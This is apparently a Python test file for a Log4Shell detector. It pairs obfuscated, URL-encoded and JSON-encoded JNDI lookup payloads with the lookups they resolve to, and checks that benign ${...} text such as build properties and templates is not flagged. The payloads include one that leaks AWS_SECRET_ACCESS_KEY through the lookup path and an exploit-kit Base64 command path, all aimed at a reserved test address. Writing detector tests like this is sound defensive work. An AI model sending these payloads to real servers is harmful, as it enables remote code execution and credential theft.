"""log4shell: JNDI lookups, also hidden behind Log4j's own lookups, in request texts; other `${…}` text
(build properties, shell variables, templates) is no lookup."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from threats import catalogue as C
from workers.detect.jndi import MAX_TEXT, check_lookups, jndi_lookup

# (as sent, the lookup Log4j would make); payload shapes written here from Log4j's lookup syntax
ATTACKS = [
    ("${jndi:ldap://198.18.0.9:1389/a}", "${jndi:ldap://198.18.0.9:1389/a}"),
    ("${jndi:rmi://198.18.0.9/x}", "${jndi:rmi://198.18.0.9/x}"),
    ("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.18.0.9/z}", "${jndi:ldap://198.18.0.9/z}"),
    ("${${lower:J}${lower:N}DI:dns://198.18.0.9/q}", "${jnDI:dns://198.18.0.9/q}"),
    ("${${env:UNSET:-j}ndi${env:UNSET:-:}ldap://198.18.0.9/e}", "${jndi:ldap://198.18.0.9/e}"),
    ("${j${k8s:k5:-ND}i:ldaps://198.18.0.9/k}", "${jNDi:ldaps://198.18.0.9/k}"),
    ("${${upper:j}${date:'n'}di:iiop://198.18.0.9/d}", "${Jndi:iiop://198.18.0.9/d}"),
    ("${${::-${::-j}}ndi:ldap://198.18.0.9/n}", "${jndi:ldap://198.18.0.9/n}"),  # nested defaults
    # what the lookup leaks is resolved first (an unset name prints nothing)
    ("${jndi:ldap://198.18.0.9/${env:AWS_SECRET_ACCESS_KEY}}", "${jndi:ldap://198.18.0.9/}"),
    # encoded as a URL or JSON carries it
    ("%24%7Bjndi%3Aldap%3A%2F%2F198.18.0.9%2Fu%7D", "${jndi:ldap://198.18.0.9/u}"),
    ("%2524%257Bjndi:ldap://198.18.0.9/w%257D", "${jndi:ldap://198.18.0.9/w}"),
    ('{"q": "\\u0024{jndi:ldap://198.18.0.9/j}"}', "${jndi:ldap://198.18.0.9/j}"),
    ("Mozilla/5.0 ${ jndi :ldap://198.18.0.9/s}", "${ jndi :ldap://198.18.0.9/s}"),
    # an exploit kit's command in the path, base64 of a long shell line
    ("${jndi:ldap://198.18.0.9:1389/Basic/Command/Base64/" + "Y3VybCAtcyAxOTguMTguMC45" * 40 + "}",
     "${jndi:ldap://198.18.0.9:1389/Basic/Command/Base64/" + "Y3VybCAtcyAxOTguMTguMC45" * 40 + "}"),
]  # fmt: skip
BENIGN = [
    "${project.version}",
    "export PATH=${HOME}/bin:${PATH}",
    "Total: ${5} per month",  # a template's price
    "Hello ${user.name}, your order ${order.id} has shipped",
    "${env:JAVA_HOME:-/usr/lib/jvm}",  # a Log4j lookup that is no JNDI
    "${lower:NDI}",
    "jndi:ldap://docs.example/naming explains the lookup",  # the words without a lookup
    "$ {jndi:ldap://x}",  # no lookup: `$ {`
]


@pytest.mark.parametrize(("text", "lookup"), ATTACKS)
def test_jndi_lookups_are_found_through_logs_own_lookups_and_encodings(text: str, lookup: str) -> None:
    assert jndi_lookup(text) == lookup
    hit = check_lookups([b"/", text.encode("latin-1", "replace")])
    assert hit is not None and hit.threat is C.LOG4SHELL


@pytest.mark.parametrize("text", BENIGN)
def test_other_dollar_brace_text_is_no_lookup(text: str) -> None:
    assert jndi_lookup(text) is None
    assert check_lookups([text.encode()]) is None


def test_the_check_is_bounded() -> None:
    deep = "${::-" * 5000 + "j" + "}" * 5000 + "ndi:ldap://x}"  # far past the resolved depth and length
    assert jndi_lookup(deep) is None
    assert jndi_lookup("x" * MAX_TEXT + "${jndi:ldap://x}") is None  # beyond the characters looked at
    assert check_lookups([b"GET / HTTP/1.1", b"curl/8.5"]) is None


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="${}:-jndiJNDI:lowerupp/'x% ", max_size=120))
def test_the_check_is_total(text: str) -> None:
    found = jndi_lookup(text)  # never raises, and what it finds is a lookup named jndi
    assert found is None or (found.startswith("${") and "jndi" in found.lower().replace(" ", ""))
